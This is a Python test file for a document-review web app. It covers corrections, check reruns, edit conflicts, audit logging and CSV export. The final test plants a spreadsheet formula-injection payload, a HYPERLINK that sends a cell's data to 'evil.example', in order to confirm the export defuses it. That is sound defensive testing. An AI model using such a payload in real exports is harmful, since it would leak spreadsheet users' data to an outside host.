"""Reviewers' actions end to end through the app (TestClient), on SQLite and PostgreSQL:
a correction reruns the checks, a concurrent save is refused with the other's change, every
action is audited, exports carry the corrected value and who made it."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from sqlalchemy import delete, func, select, text

from baocao.extractor.arith import vi
from baocao.review.recheck import corrected_extraction, stored_checks
from baocao.store.db import session_scope
from baocao.store.models import (
    AuditRow,
    CheckRow,
    CorrectionRow,
    ExtractionRow,
    FactRow,
    ParsedDocumentRow,
    RecheckRow,
    ReviewRow,
    VersionRow,
)
from tests.review_support import ReviewDB, csrf_of, review_db  # noqa: F401

pytest_plugins = ["tests.conftest_db"]

FIELDS = ("kind", "value", "denominator", "unit", "label", "indicator", "period", "subject")


def failed_sum(db: ReviewDB, document_id: int) -> tuple[str, str, float]:
    """(key, ordinal, parts' sum) of the total of a failed sum check of the document."""
    with session_scope(db.url) as session:
        x = session.scalar(select(ExtractionRow.id).join(VersionRow).where(
            VersionRow.document_id == document_id))
        check = session.scalar(select(CheckRow).where(CheckRow.extraction_id == x,
                                                      CheckRow.rule == "sum",
                                                      CheckRow.status == "fail"))
        assert check is not None
        total = check.data["facts"][0]
        key = session.scalar(select(FactRow.key).where(FactRow.extraction_id == x,
                                                       FactRow.ordinal == total))
        return key, total, float(check.actual)


def fact_form(client: Any, doc: int, key: str) -> dict[str, str]:
    """The fact page's form as the browser would submit it."""
    html = client.get(f"/doc/{doc}/fact/{key}").text
    form = {"csrf": csrf_of(html),
            "version": re.search(r'name="version" value="(\d+)"', html)[1]}
    for name in FIELDS:
        if name == "kind":
            form[name] = re.search(r'id="f-kind">.*?<option value="(\w+)" selected', html, re.S)[1]
        else:
            form[name] = re.search(rf'id="f-{name}" value="([^"]*)"', html)[1]
    return form


def audit(db: ReviewDB) -> list[tuple[str, str]]:
    with session_scope(db.url) as session:
        return [(a, actor) for a, actor in session.execute(
            select(AuditRow.action, AuditRow.actor).order_by(AuditRow.id))]


def test_a_correction_reruns_the_checks_and_the_failed_check_passes(review_db: ReviewDB
                                                                    ) -> None:
    doc = review_db.doc_id("004_1ab22aee8a00dbb0.txt")
    key, ordinal, parts = failed_sum(review_db, doc)
    client = review_db.client("binh")
    page = client.get(f"/doc/{doc}").text
    before = int(re.search(r'id="failed-count"[^>]*>(\d+)', page)[1])
    form = {**fact_form(client, doc, key), "value": vi(parts), "action": "correct",
            "reason": "cộng lại các thành phần"}
    response = client.post(f"/doc/{doc}/fact/{key}", data=form, follow_redirects=False)
    assert response.status_code == 303
    assert response.headers["location"].startswith(f"/doc/{doc}?fact={key}&saved=")
    page = client.get(response.headers["location"]).text
    assert re.search(r'data-rule="sum" data-before="fail" data-after="pass"', page)
    assert int(re.search(r'id="failed-count"[^>]*>(\d+)', page)[1]) == before - 1
    assert f'data-key="{key}" data-v="1" data-status="corrected"' in page
    with session_scope(review_db.url) as session:
        row = session.scalar(select(CorrectionRow).where(CorrectionRow.fact_key == key))
        assert row is not None and row.value == pytest.approx(parts) and row.fields == ["value"]
        rerun = session.scalar(select(AuditRow).where(AuditRow.action == "checks.rerun"))
        assert rerun.before["failed"] == before and rerun.after["failed"] == before - 1
        edit = session.scalar(select(AuditRow).where(AuditRow.action == "correction.edit"))
        assert edit.actor == "binh" and edit.before is None and edit.reason
        assert edit.after["value"] == pytest.approx(parts)
        assert session.scalar(select(ReviewRow.state).where(ReviewRow.document_id == doc)
                              ) == "in_review"
    queue = client.get("/?place=Đắk Song").text
    row = re.search(rf'<tr data-doc="{doc}" class="([^"]*)"', queue)
    assert row is not None and "has-fail" not in row[1]  # no failed check left


def test_the_second_concurrent_save_gets_409_with_the_other_change(review_db: ReviewDB
                                                                   ) -> None:
    doc = review_db.doc_id("004_1ab22aee8a00dbb0.txt")
    key, _, parts = failed_sum(review_db, doc)
    binh, an = review_db.client("binh"), review_db.client("an")
    form_b, form_a = fact_form(binh, doc, key), fact_form(an, doc, key)  # both see version 0
    saved = binh.post(f"/doc/{doc}/fact/{key}", data={**form_b, "value": vi(parts),
                                                      "action": "correct"},
                      follow_redirects=False)
    assert saved.status_code == 303
    refused = an.post(f"/doc/{doc}/fact/{key}", data={**form_a, "value": "70",
                                                      "label": "tổng điểm", "action": "correct"})
    assert refused.status_code == 409
    assert 'id="conflict"' in refused.text and "binh" in refused.text
    assert vi(parts) in refused.text  # the other's value is shown
    assert 'id="f-value" value="70"' in refused.text  # and mine is kept in the form
    with session_scope(review_db.url) as session:
        row = session.scalar(select(CorrectionRow).where(CorrectionRow.fact_key == key))
        assert row.value == pytest.approx(parts) and row.version == 1  # not overwritten
    again = {**fact_form(an, doc, key), "value": "70", "action": "correct"}
    assert again["version"] == "1"
    assert an.post(f"/doc/{doc}/fact/{key}", data=again,
                   follow_redirects=False).status_code == 303
    edits = [actor for action, actor in audit(review_db) if action == "correction.edit"]
    assert edits == ["binh", "an"]


def test_reject_then_accept_keeps_every_state_in_the_history(review_db: ReviewDB) -> None:
    doc = review_db.doc_id("001_422e18ebd3f30e83.txt")
    client = review_db.client("binh")
    with session_scope(review_db.url) as session:
        key = session.scalar(select(FactRow.key).where(FactRow.document_id == doc,
                                                       FactRow.ordinal == "f22"))
    for action in ("reject", "accept"):
        form = {**fact_form(client, doc, key), "action": action}
        assert client.post(f"/doc/{doc}/fact/{key}", data=form,
                           follow_redirects=False).status_code == 303
    history = client.get(f"/doc/{doc}/history").text
    assert history.count('data-action="correction.reject"') == 1
    assert history.count('data-action="correction.confirm"') == 1
    assert history.count('data-action="checks.rerun"') == 2
    fact_page = client.get(f"/doc/{doc}/fact/{key}").text
    assert 'id="f-status" data-status="accepted">đã chấp nhận' in fact_page
    assert 'data-action="correction.reject"' in fact_page
    with session_scope(review_db.url) as session:
        n = session.scalar(select(func.count()).select_from(AuditRow))
        with pytest.raises(Exception, match="append-only"):
            with session.begin_nested():
                session.execute(delete(AuditRow))
        assert session.scalar(select(func.count()).select_from(AuditRow)) == n


def test_the_rejected_date_makes_its_failed_check_vanish(review_db: ReviewDB) -> None:
    doc = review_db.doc_id("001_422e18ebd3f30e83.txt")
    client = review_db.client("an")
    with session_scope(review_db.url) as session:
        key = session.scalar(select(FactRow.key).where(FactRow.document_id == doc,
                                                       FactRow.ordinal == "f22"))
    form = {**fact_form(client, doc, key), "value": "30/4/2024", "action": "correct"}
    page = client.get(client.post(f"/doc/{doc}/fact/{key}", data=form,
                                  follow_redirects=False).headers["location"]).text
    assert 'data-rule="date_after_document" data-before="fail" data-after=""' in page
    assert re.search(r'id="failed-count"[^>]*>0 ', page)


def test_invalid_values_are_refused_with_a_message(review_db: ReviewDB) -> None:
    doc = review_db.doc_id("004_1ab22aee8a00dbb0.txt")
    key, _, _ = failed_sum(review_db, doc)
    client = review_db.client("binh")
    for field, value in (("value", "mười hai"), ("kind", "weight"), ("denominator", "x/y")):
        form = {**fact_form(client, doc, key), field: value, "action": "correct"}
        response = client.post(f"/doc/{doc}/fact/{key}", data=form)
        assert response.status_code == 422, (field, value)
        assert 'id="form-error"' in response.text
    form = {**fact_form(client, doc, key), "action": "undo"}
    assert client.post(f"/doc/{doc}/fact/{key}", data=form).status_code == 422
    assert [a for a, _ in audit(review_db) if a.startswith("correction")] == []


def test_adding_a_missed_fact_from_a_selection(review_db: ReviewDB) -> None:
    doc = review_db.doc_id("003_93ee7d9315423c01.txt")
    client = review_db.client("binh")
    with session_scope(review_db.url) as session:
        x = session.scalar(select(ExtractionRow).join(VersionRow).where(
            VersionRow.document_id == doc))
        spans = [(s, e) for s, e in session.execute(select(FactRow.span_start, FactRow.span_end)
                                                     .where(FactRow.extraction_id == x.id))]
        text_ = x.text
    match = next(m for m in re.finditer(r"\d+", text_)
                 if not any(s < m.end() and m.start() < e for s, e in spans))
    token = review_db.csrf(client, f"/doc/{doc}")
    form = {"csrf": token, "span_start": str(match.start()), "span_end": str(match.end()),
            "text": match[0], "kind": "count", "label": "số bị sót", "reason": "thiếu"}
    response = client.post(f"/doc/{doc}/add", data=form, follow_redirects=False)
    assert response.status_code == 303
    page = client.get(response.headers["location"]).text
    assert 'data-status="added"' in page and 'class="fact k-count s-added"' in page
    assert client.post(f"/doc/{doc}/add", data=form).status_code == 422  # already a fact
    bad = {**form, "text": "not the text"}
    assert client.post(f"/doc/{doc}/add", data=bad).status_code == 422
    far = {**form, "span_start": "0", "span_end": str(len(text_) + 5)}
    assert client.post(f"/doc/{doc}/add", data=far).status_code == 422
    rows = list(csv.DictReader(io.StringIO(client.get(f"/export.csv?document={doc}").text)))
    added = [r for r in rows if r["status"] == "added"]
    assert len(added) == 1 and added[0]["source_text"] == match[0]
    assert float(added[0]["corrected_value"]) == float(match[0].replace(".", ""))
    assert added[0]["corrected_by"] == "binh"
    key = added[0]["fact_key"]  # an added fact can be corrected and rejected too
    form = {**fact_form(client, doc, key), "value": "7", "action": "correct"}
    assert client.post(f"/doc/{doc}/fact/{key}", data=form,
                       follow_redirects=False).status_code == 303
    form = {**fact_form(client, doc, key), "action": "reject"}
    assert client.post(f"/doc/{doc}/fact/{key}", data=form,
                       follow_redirects=False).status_code == 303
    rows = list(csv.DictReader(io.StringIO(client.get(f"/export.csv?document={doc}").text)))
    assert not [r for r in rows if r["status"] == "added"]


def test_export_carries_the_corrected_value_and_who(review_db: ReviewDB) -> None:
    doc = review_db.doc_id("004_1ab22aee8a00dbb0.txt")
    key, _, parts = failed_sum(review_db, doc)
    client = review_db.client("binh")
    form = {**fact_form(client, doc, key), "value": vi(parts), "action": "correct"}
    client.post(f"/doc/{doc}/fact/{key}", data=form, follow_redirects=False)
    response = review_db.client("an").get("/export.csv")
    assert response.headers["content-disposition"].startswith("attachment")
    row = next(r for r in csv.DictReader(io.StringIO(response.text))
               if r["fact_key"] == key and r["document_id"] == str(doc))
    assert row["status"] == "corrected" and row["corrected_by"] == "binh"
    assert float(row["corrected_value"]) == pytest.approx(parts)
    assert float(row["value"]) == pytest.approx(65.7)  # the extracted one beside it


def test_mark_reviewed_with_versioning(review_db: ReviewDB) -> None:
    doc = review_db.doc_id("000_")
    client = review_db.client("an")
    page = client.get(f"/doc/{doc}").text
    version = re.search(r'name="version" value="(\d+)" id="review-version"', page)[1]
    token = csrf_of(page)
    ok = client.post(f"/doc/{doc}/reviewed", data={"csrf": token, "version": version},
                     follow_redirects=False)
    assert ok.status_code == 303
    assert 'id="review-state" data-state="reviewed">đã rà soát' in client.get(f"/doc/{doc}").text
    stale = client.post(f"/doc/{doc}/reviewed", data={"csrf": token, "version": version})
    assert stale.status_code == 409
    assert ("review.reviewed", "an") in audit(review_db)


def test_checks_stay_as_extracted_without_corrections(review_db: ReviewDB) -> None:
    from baocao.review.recheck import run

    doc = review_db.doc_id("002_")
    with session_scope(review_db.url) as session:
        x = session.scalar(select(ExtractionRow).join(VersionRow).where(
            VersionRow.document_id == doc))
        app = review_db.app
        from baocao.review.sources import current

        document = app.state.sources.document(session, current(session, doc), x.text)
        loaded = corrected_extraction(session, x.id, document)
        rerun = [c.model_dump(mode="json") for c in run(loaded.extraction, document)]
        assert rerun == stored_checks(session, x.id)


def test_a_missing_source_is_parsed_again_or_reported(review_db: ReviewDB, tmp_path) -> None:  # noqa: ANN001
    doc = review_db.ids["script.html"]
    client = review_db.client("an")
    with session_scope(review_db.url) as session:
        session.execute(delete(ParsedDocumentRow))
    assert 'id="missing"' not in client.get(f"/doc/{doc}").text  # parsed again from the file
    with session_scope(review_db.url) as session:
        assert session.scalar(select(func.count()).select_from(ParsedDocumentRow)) == 1
        session.execute(delete(ParsedDocumentRow))
    (tmp_path / "script.html").write_text("<p>changed since ingest 99</p>")
    review_db.app.state.sources.documents.items.clear()
    page = client.get(f"/doc/{doc}").text
    assert 'id="missing"' in page and "changed since it was ingested" in page
    with session_scope(review_db.url) as session:
        key = session.scalar(select(FactRow.key).where(FactRow.document_id == doc))
    form = {**fact_form(client, doc, key), "action": "reject"}
    response = client.post(f"/doc/{doc}/fact/{key}", data=form, follow_redirects=False)
    assert response.status_code == 303 and "saved=" not in response.headers["location"]
    with session_scope(review_db.url) as session:
        assert session.scalar(select(func.count()).select_from(RecheckRow)) == 0


def test_pdf_page_images(review_db: ReviewDB) -> None:
    pdf = review_db.doc_id("004_1ab22aee8a00dbb0.pdf")
    txt = review_db.doc_id("004_1ab22aee8a00dbb0.txt")
    client = review_db.client("an")
    page = client.get(f"/doc/{pdf}/page/1")
    assert page.status_code == 200 and page.headers["content-type"] == "image/png"
    assert page.content.startswith(b"\x89PNG")
    assert client.get(f"/doc/{pdf}/page/99").status_code == 404
    assert client.get(f"/doc/{txt}/page/1").status_code == 404
    html = client.get(f"/doc/{pdf}").text
    assert 'data-format="pdf"' in html and re.search(r'data-page="1" data-bbox="[\d.,]+"', html)
    tables = client.get(f"/doc/{review_db.doc_id('001_')}").text
    assert '<table class="doc-table">' in tables and "<td data-o=" in tables


def test_audit_rows_name_who_and_when(review_db: ReviewDB) -> None:
    client = review_db.client("an")
    client.post("/logout", data={"csrf": review_db.csrf(client)})
    with session_scope(review_db.url) as session:
        rows = session.execute(text("SELECT action, actor, at FROM audit ORDER BY id")).all()
    assert [r[0] for r in rows] == ["session.login", "session.logout"]
    assert all(r[1] == "an" and r[2] is not None for r in rows)


def test_documents_from_baocao_ingest_are_parsed_on_first_view(db_url: str,
                                                                tmp_path) -> None:  # noqa: ANN001
    """A version stored without its Document (ingested before ingest kept it): the app
    parses the source (a file, a zip member) once, after checking its sha256, keeps it, and
    the checks rerun on it."""
    import shutil
    import zipfile

    from baocao.review.app import create_app
    from baocao.store.ingest import ingest
    from tests.review_support import SEEDS, add_users, login

    seed = tmp_path / "seed.txt"
    shutil.copy(SEEDS[1], seed)
    with zipfile.ZipFile(tmp_path / "archive.zip", "w") as archive:
        archive.write(SEEDS[4], "nested/report.txt")
    ingest([str(seed), str(tmp_path / "archive.zip")], db=db_url, workers=0, quiet=True)
    with session_scope(db_url) as session:          # ingest stored them: forget them here
        assert session.scalar(select(func.count()).select_from(ParsedDocumentRow)) == 2
        session.execute(delete(ParsedDocumentRow))
    add_users(db_url)
    from fastapi.testclient import TestClient

    with TestClient(create_app(db_url)) as client:
        login(client, "an")
        with session_scope(db_url) as session:
            docs = dict(session.execute(text("SELECT path, id FROM documents")).all())
        assert any("archive.zip!nested/report.txt" in p for p in docs)
        for path, doc in docs.items():
            page = client.get(f"/doc/{doc}").text
            assert 'id="missing"' not in page, path
            if path == str(seed.resolve()):
                assert '<table class="doc-table">' in page  # drawn from the parsed Document
        with session_scope(db_url) as session:
            assert session.scalar(select(func.count()).select_from(ParsedDocumentRow)) == 2
        doc = docs[str(seed.resolve())]
        with session_scope(db_url) as session:
            key = session.scalar(select(FactRow.key).where(FactRow.document_id == doc,
                                                           FactRow.ordinal == "f22"))
        form = {**fact_form(client, doc, key), "value": "30/4/2024", "action": "correct"}
        response = client.post(f"/doc/{doc}/fact/{key}", data=form, follow_redirects=False)
        assert "saved=" in response.headers["location"]  # the checks did rerun


def test_added_fact_between_blocks_takes_the_block_before(tmp_path) -> None:  # noqa: ANN001
    """A reviewer's span that starts on the blank line between two paragraphs is placed in
    the paragraph before it (page and box from there), not lost."""
    from baocao.parsers import parse
    from baocao.review.recheck import added_fact
    from baocao.store.models import CorrectionRow

    path = tmp_path / "note.txt"
    path.write_text("Tiếp nhận 12 hồ sơ.\n\nĐã giải quyết 10 hồ sơ.\n", encoding="utf-8")
    doc = parse(path)
    start = doc.text.index("\n\nĐã")
    c = CorrectionRow(id=7, action="add", fields=["value"], kind="count", value=10.0,
                      text=doc.text[start:start + 4], span_start=start, span_end=start + 4)
    fact = added_fact(c, doc, doc.text)
    assert fact is not None
    assert fact["location"]["block"] == doc.block_at(0).id
    assert (fact["id"], fact["value"], fact["span"]) == ("a7", 10.0, [start, start + 4])


def test_the_web_export_never_carries_a_live_formula(review_db: ReviewDB) -> None:
    # a reviewer's label or reason is untrusted text too (issue 15, item 1)
    doc = review_db.doc_id("004_1ab22aee8a00dbb0.txt")
    key, _, _ = failed_sum(review_db, doc)
    client = review_db.client("binh")
    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
    form = {**fact_form(client, doc, key), "label": hostile, "reason": "@SUM(1+1)",
            "action": "correct"}
    assert client.post(f"/doc/{doc}/fact/{key}", data=form,
                       follow_redirects=False).status_code == 303
    response = review_db.client("an").get(f"/export.csv?document={doc}")
    row = next(r for r in csv.DictReader(io.StringIO(response.text)) if r["fact_key"] == key)
    assert row["corrected_label"] == "'" + hostile
    assert row["correction_reason"] == "'@SUM(1+1)"
